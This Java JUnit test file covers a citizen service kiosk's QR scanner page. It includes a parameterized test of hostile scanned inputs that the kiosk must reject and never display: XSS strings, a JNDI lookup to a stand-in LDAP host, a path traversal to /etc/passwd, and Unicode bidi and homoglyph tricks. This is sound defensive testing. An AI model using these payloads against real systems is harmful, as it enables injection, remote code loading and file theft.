package org.yijianshi.kiosk.ui.scan;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.github.mvysny.kaributesting.v10.MockVaadin;
import com.github.mvysny.kaributesting.v10.Routes;
import com.vaadin.flow.component.UI;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Optional;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.yijianshi.kiosk.application.Identity;
import org.yijianshi.kiosk.application.ScanTrouble;
import org.yijianshi.kiosk.dock.Dock;
import org.yijianshi.kiosk.run.Terminal;
import org.yijianshi.kiosk.session.CitizenSession;
import org.yijianshi.kiosk.session.CodeArrivals;
import org.yijianshi.kiosk.session.SessionEvent;
import org.yijianshi.kiosk.session.Sessions;
import org.yijianshi.kiosk.terminal.TerminalConfig;
import org.yijianshi.kiosk.ui.Desk;
import org.yijianshi.kiosk.ui.Glass;
import org.yijianshi.kiosk.ui.KioskView;
import org.yijianshi.kiosk.ui.kit.CodeScanner;

/** What a citizen reads at a terminal that has a scanner and no camera, before the sandbox. */
class ScannerPageTest {
    private static final Duration PATIENCE = Duration.ofSeconds(30);

    private static Terminal terminal;
    private static Dock dock;

    private Glass glass;

    @BeforeAll
    static void start(@TempDir Path store) throws Exception {
        terminal = Terminal.start(withoutCamera().withPort(0).withStoreIn(store));
        dock = terminal.part(Dock.class);
    }

    private static TerminalConfig withoutCamera() throws Exception {
        var demo = TerminalConfig.load(Path.of("device-config", "demo.yaml"));
        var unattended = new TerminalConfig.Site(
                demo.site().name(),
                demo.site().level(),
                demo.site().division(),
                demo.site().terminal(),
                demo.site().hotline(),
                false);
        return new TerminalConfig(
                true,
                unattended,
                demo.ui(),
                demo.session(),
                demo.devices().withoutCamera(demo.devices().scanner().orElseThrow()),
                demo.platform(),
                demo.store(),
                demo.catalogue(),
                demo.fonts());
    }

    @AfterAll
    static void stop() {
        terminal.close();
    }

    @BeforeEach
    void open() {
        dock.takeFromScanner();
        dock.floodScanner(false);
        dock.plugScanner(true);
        await().atMost(PATIENCE).until(terminal.part(CodeArrivals.class)::ready);
        terminal.part(Sessions.class).end(SessionEvent.Reason.LEFT);
        terminal.part(Sessions.class).takeLastEnd();
        MockVaadin.setup(new Routes());
        glass = new Glass(new KioskView(terminal.part(Desk.class), Optional.empty()));
        UI.getCurrent().add(glass.root());
    }

    @AfterEach
    void leave() {
        MockVaadin.tearDown();
    }

    @Test
    void aReceiptsCodeIsLookedUpAndAnotherIsSaidToBeForeign() {
        glass.press("查进度");
        glass.press("扫凭证上的二维码");
        glass.reads("请放到扫码口");
        assertThat(glass.all()).noneMatch(CodeScanner.class::isInstance);
        dock.scan("https://example.invalid/?q=<script>alert(1)</script>\u0007\u001b[2J");
        glass.reads(ScanTrouble.FOREIGN.title(), ScanTrouble.FOREIGN.sentence());
        assertThat(glass.text()).doesNotContain("example", "script");
        dock.scan("K7M4PX2A");
        glass.reads(ScanTrouble.SIGNING_CODE_HERE.title());
        dock.scan("K7M4PX");
        glass.reads("请输入查询码", "K7M4PX", "没有找到这个查询码");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:alert(1)",
                "<img src=x onerror=alert(1)>",
                "W9T3RB\u202eBR3T9W",
                "\u2067W9T3RB\u2069",
                "W9T\u200b3RB",
                "W9T3RB\u0000",
                "Ｗ９Ｔ３ＲＢ",
                "W9Т3RВ",
                "示例䶮𠮷",
                "%s%n{0}${jndi:ldap://example.invalid/x}",
                "../../../../etc/passwd"
            })
    void aHostileCodeIsForeignAndShownNowhere(String hostile) {
        glass.press("查进度");
        glass.press("扫凭证上的二维码");
        glass.reads("请放到扫码口");
        dock.scan(hostile);
        glass.reads(ScanTrouble.FOREIGN.title(), ScanTrouble.FOREIGN.sentence());
        assertThat(glass.text()).doesNotContain(hostile, "W9T", "alert", "etc/passwd", "\u202e", "\u200b");
        glass.press("不扫了，手动输入");
        glass.reads("请输入查询码");
        assertThat(glass.text()).doesNotContain(hostile, "W9T");
    }

    @Test
    void whoeverPutsHisTelephoneThereIsGreeted() {
        glass.press("亮码办理");
        glass.reads("把身份码放到扫码口");
        dock.scanIdentity("mother", false);
        glass.reads("您好", "亮码得到的身份信息");
        assertThat(terminal.part(Sessions.class).current().flatMap(CitizenSession::identity))
                .map(Identity::evidence)
                .contains(Identity.Evidence.Own.CODE);
    }

    @Test
    void withoutTheScannerTheKeysRemainAndItIsOfferedAgainOnceItIsBack() {
        glass.press("查进度");
        glass.press("扫凭证上的二维码");
        glass.reads("请放到扫码口");
        dock.plugScanner(false);
        glass.reads(ScanTrouble.NO_SCANNER.title(), ScanTrouble.NO_SCANNER.sentence(), "暂不能扫码");
        assertThat(glass.text()).doesNotContain("亮灯的地方");
        glass.press("不扫了，手动输入");
        glass.reads("请输入查询码");
        assertThat(glass.text()).doesNotContain("扫凭证上的二维码");
        glass.press("返回首页");
        dock.plugScanner(true);
        await().atMost(PATIENCE).until(terminal.part(CodeArrivals.class)::ready);
        MockVaadin.tearDown();
        open();
        glass.reads("亮码办理");
    }

    @Test
    void aFloodIsSaidAndAfterItACodeIsRead() {
        glass.press("查进度");
        glass.press("扫凭证上的二维码");
        glass.reads("请放到扫码口");
        dock.floodScanner(true);
        glass.reads(ScanTrouble.UNREADABLE.title(), "请把码都拿开，再放一个", "暂不能扫码");
        dock.floodScanner(false);
        glass.reads("请放到扫码口");
        dock.scan("K7M4PX");
        glass.reads("没有找到这个查询码");
    }

    @Test
    void aCodeThatLiesThereBeforeIsReadOnceThePageWaits() {
        glass.press("查进度");
        dock.scan("K7M4PX");
        glass.press("扫凭证上的二维码");
        glass.reads("没有找到这个查询码");
    }
}
